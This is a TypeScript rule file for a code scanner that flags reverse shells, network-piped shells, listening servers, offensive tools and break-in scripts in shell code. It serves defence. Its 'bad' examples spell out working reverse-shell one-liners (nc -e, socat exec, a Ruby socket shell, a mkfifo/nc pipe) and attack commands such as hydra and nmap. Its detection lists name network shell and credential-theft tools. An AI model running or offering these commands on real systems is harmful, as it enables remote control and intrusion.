import { shellNames } from '../bash/interpreters.ts'
import type { Rule } from '../rule.ts'
import { textOf } from '../values.ts'
import { isShell, line, namesShell, shell, words } from './shell-ask.ts'

const talkers = new Set(
  words('nc ncat netcat socat telnet openssl socket ssh pwncat rlwrap cryptcat sbd dbclient powercat zmodload'),
)

const lastOf = (path: string): string => path.slice(path.lastIndexOf('/') + 1)

/** What gives a machine to somebody else, and the tools for it. */
export const shellAttackRules: readonly Rule[] = [
  {
    id: 'shell/reverse-shell',
    languages: shell,
    type: 'network',
    severity: 'critical',
    cwe: 'CWE-506',
    description: 'Connects a shell to the network, so that somebody elsewhere controls this machine.',
    recommendation: 'Remove it.',
    implies: ['connect', 'run', 'privilege'],
    match: {
      on: 'call',
      names: words(`nc ncat netcat socat socket pwncat cryptcat sbd busybox script.connect rlwrap pwncat-cs ncat.openbsd
        nc.traditional nc.openbsd`),
      when: (call, { program }) => {
        const all = line(call)
        if (call.name === 'script.connect') {
          return (
            program.calls.some(
              other => other.start === call.start && (other.name === 'script.run' || isShell(other)),
            ) || /\/bin\/\w*sh\b/.test(program.source.slice(call.start, call.end))
          )
        }
        if (call.name === 'socat') return /(^|[ ,])(exec|system|shell)[:=]/i.test(all)
        if (call.name === 'busybox' || call.name === 'rlwrap') return /^(nc|ncat|netcat) .*-e/.test(all)
        return (
          /(^| )(-\w*e|--exec|--sh-exec|-c|-\w*lue) ?\S*(sh|cmd|python|perl)/.test(all) || namesShell(call.args.at(-1))
        )
      },
    },
    examples: {
      bad: [
        'nc -e /bin/sh 203.0.113.5 4444',
        'socat tcp-connect:host:9 exec:/bin/sh,pty',
        'ruby -rsocket -e \'c=TCPSocket.new("h",9);exec "/bin/sh"\'',
      ],
      good: ['nc -zv localhost 80'],
    },
  },
  {
    id: 'shell/network-pipe',
    languages: shell,
    type: 'network',
    severity: 'critical',
    cwe: 'CWE-506',
    description: 'Pipes a shell to or from a network connection.',
    recommendation: 'Remove it.',
    implies: ['connect', 'run', 'privilege'],
    match: {
      on: 'pipeline',
      when: ({ calls }) => {
        const net = calls.findIndex(
          call => talkers.has(call.name) && (call.name !== 'openssl' || /s_client|s_server/.test(line(call))),
        )
        return net !== -1 && calls.some((call, at) => at !== net && isShell(call) && !/(^| )-c/.test(line(call)))
      },
    },
    examples: {
      bad: [
        'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f',
        'telnet host 80 | /bin/sh | telnet host 25',
      ],
      good: ['printf hello | nc -w1 localhost 80'],
    },
  },
  {
    id: 'shell/listen',
    languages: shell,
    type: 'network',
    severity: 'high',
    cwe: 'CWE-923',
    description: 'Waits for connections from the network.',
    recommendation: 'A notebook does not need to listen.',
    implies: ['connect'],
    match: {
      on: 'call',
      names: words(`nc ncat netcat socat python php ruby busybox httpd nginx sshd openssl telnetd in.telnetd darkhttpd
        http-server tftpd vsftpd smbd dropbear ttyd gotty shellinabox websocketd webfsd serve mini_httpd
        lighttpd kubectl socket restic`),
      when: call => {
        const all = line(call)
        switch (call.name) {
          case 'nc':
          case 'ncat':
          case 'netcat':
          case 'socket':
            return /(^| )(-\w*l|--listen|-s)/.test(all) && !/(^| )-\w*z/.test(all)
          case 'socat':
            return /-?listen/i.test(all) || /(tcp|udp|openssl|unix)\d?-l(isten)?:/i.test(all)
          case 'python':
            return (
              /-m (http\.server|SimpleHTTPServer|pyftpdlib|twisted|smtpd|aiosmtpd|uploadserver|CGIHTTPServer)(?! (-h|--help))/.test(
                all,
              ) && !/(-b|--bind)[ =](127\.0\.0\.1|localhost|::1)\b/.test(all)
            )
          case 'php':
            return /(^| )-S /.test(all)
          case 'ruby':
            return /-run|webrick|httpd/i.test(all)
          case 'busybox':
            return /^(httpd|nc .*-l|telnetd|ftpd)/.test(all)
          case 'openssl':
            return /^s_server/.test(all)
          case 'kubectl':
            return /^(proxy|port-forward)/.test(all)
          case 'restic':
            return /(^| )-r \S*rest:|backup/.test(all)
          default:
            return { severity: 'medium' }
        }
      },
    },
    examples: {
      bad: ['nc -lvp 4444', 'python3 -m http.server 8000', 'socat tcp-listen:80 -'],
      good: ['nc -z localhost 80', 'python3 -m venv env', 'python3 -m http.server 8000 --bind 127.0.0.1'],
    },
  },
  {
    id: 'shell/attack-tool',
    languages: shell,
    type: 'network',
    severity: 'high',
    cwe: 'CWE-506',
    description: 'Starts a tool for scanning, listening in, guessing passwords or breaking in.',
    recommendation: 'Not on this machine.',
    implies: ['connect', 'privilege'],
    match: {
      on: 'call',
      names: words(`nmap masscan zmap tcpdump tshark wireshark dumpcap ettercap bettercap arpspoof dsniff ngrep hydra
        medusa ncrack john hashcat sqlmap nikto gobuster dirb wfuzz ffuf msfconsole msfvenom aircrack-ng
        airmon-ng responder crackmapexec impacket-secretsdump hping3 slowloris mitmproxy mitmdump linpeas.sh
        pspy mimikatz mimipenguin lazagne enum4linux wpscan nuclei amass subfinder theharvester empire
        sliver beef setoolkit netsniff-ng iftop arp-scan netdiscover fping ab siege hping t50 goldeneye loic
        volatility scapy macchanger iwconfig searchsploit exploitdb showmount rpcinfo nbtscan smbmap smbutil
        netexec kerbrute evil-winrm chisel ligolo-ng rustscan ifconfig ip`),
      when: call => {
        // A card that listens to what is meant for others.
        if (/^(ifconfig|ip)$/.test(call.name)) return /\bpromisc\b(?! off)/.test(line(call))
        return /^(ab|siege|fping|iftop|iwconfig|volatility|showmount|rpcinfo|smbutil)$/.test(call.name)
          ? { severity: 'medium' }
          : /^(--version|-V|--help|-h)$/.test(line(call))
            ? { severity: 'low' }
            : true
      },
    },
    examples: {
      bad: [
        'nmap -sS 192.0.2.0/24',
        'tcpdump -i eth0 -w out.pcap',
        'hydra -l root -P list ssh://host',
        'ip link set eth0 promisc on',
      ],
      good: ['map x', 'nmap --version', 'ip addr show'],
    },
  },
  {
    id: 'shell/attack-script',
    languages: shell,
    type: 'network',
    severity: 'high',
    cwe: 'CWE-506',
    description: 'Runs a script that is known, or calls itself, a tool for breaking in.',
    recommendation: 'Not on this machine.',
    implies: ['run', 'privilege'],
    match: {
      on: 'call',
      names: [...shellNames, ...words('python pypy perl ruby node source . chmod')],
      when: call =>
        call.args.some(arg =>
          /^(lazagne|linpeas|linenum|lse|autosuid|pspy\d*|mimipenguin|linux-exploit-suggester[\w-]*|unix-privesc-check|secretsdump|responder|crackmapexec|keylogger|rootkit|ransomware|backdoor|stealer|reverse_?shell|exploit)(\.\w+)?$/i.test(
            lastOf(textOf(arg) ?? ''),
          ),
        ),
    },
    examples: { bad: ['python3 laZagne.py all', 'bash ./LinEnum.sh'], good: ['python3 report.py', 'bash build.sh'] },
  },
]
